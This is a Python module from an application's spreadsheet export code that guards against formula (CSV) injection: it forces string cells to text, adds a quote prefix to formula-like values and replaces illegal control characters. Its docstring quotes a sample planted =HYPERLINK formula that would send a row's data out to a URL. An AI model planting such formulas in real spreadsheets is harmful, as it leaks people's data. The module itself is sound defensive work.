"""The one place the app puts a value into a spreadsheet cell (exports, templates, their help and
code sheets): text is always written as text, never as a formula.

openpyxl turns any string starting with ``=`` into a live formula, and Excel or WPS may evaluate a
cell the user edits that starts with ``+``, ``-`` or ``@`` (or with one of them after spaces, a tab
or a carriage return). A name such as ``=HYPERLINK("http://…?"&B3,"详情")`` planted through a
form, an import or a bundle would otherwise send a row's data out of the sheet. Every string cell is
therefore typed as a string, and one that looks like the start of a formula also gets Excel's
"quote prefix" (the leading apostrophe), so it stays text even when someone edits it.

A control character a spreadsheet cannot hold (stored before the text rule of
``app.validation.characters``, or planted by a bundle) is written as U+FFFD instead of failing the
whole export with openpyxl's English exception, which quotes the person's data.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@")
UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # openpyxl's ILLEGAL_CHARACTERS_RE
REPLACEMENT = "\ufffd"
LEADING_BLANKS = " \t\r\n\u3000"


def looks_like_formula(text: str) -> bool:
    """True for text that a spreadsheet program could take for a formula."""
    return text[:1] in ("\t", "\r") or text.lstrip(LEADING_BLANKS)[:1] in FORMULA_STARTS


# One search per string cell of an export (a hundred thousand rows are over a million cells): the
# start of a formula (after blanks), an error code's "#", or a character a sheet cannot hold.
_CARE = re.compile(r"\A(?:[\t\r]|[ \t\r\n\u3000]*[=+\-@]|#)|[\x00-\x08\x0b\x0c\x0e-\x1f]")


def needs_care(text: str) -> bool:
    """True for a string openpyxl would not write as plain text by itself."""
    if _CARE.search(text) is None:
        return False
    from openpyxl.cell.cell import ERROR_CODES

    return looks_like_formula(text) or text in ERROR_CODES or UNWRITABLE.search(text) is not None


def as_text(cell, value) -> None:
    """Give ``cell`` the ``value``; a string is stored as a string cell, never a formula."""
    if isinstance(value, str):
        value = UNWRITABLE.sub(REPLACEMENT, value)
    cell.value = value
    if isinstance(cell.value, str):
        cell.data_type = "s"  # openpyxl made "=…" a formula and "#N/A" an error: both stay text
        if looks_like_formula(cell.value):
            cell.quotePrefix = True


def new_cell(ws, value=None):
    """A detached cell for ``ws.append`` (write-only or ordinary sheets) holding ``value`` safely."""
    from openpyxl.cell import WriteOnlyCell

    c = WriteOnlyCell(ws)
    as_text(c, value)
    return c


def append_row(ws, values) -> None:
    """Append a row; strings go through ``as_text``, prepared cells are appended as they are."""
    care = _CARE.search
    ws.append([new_cell(ws, v) if isinstance(v, str) and care(v) and needs_care(v) else v
               for v in values])


def put(ws, row: int, column: int, value) -> None:
    """Write ``value`` at (row, column) of an ordinary sheet."""
    as_text(ws.cell(row, column), value)
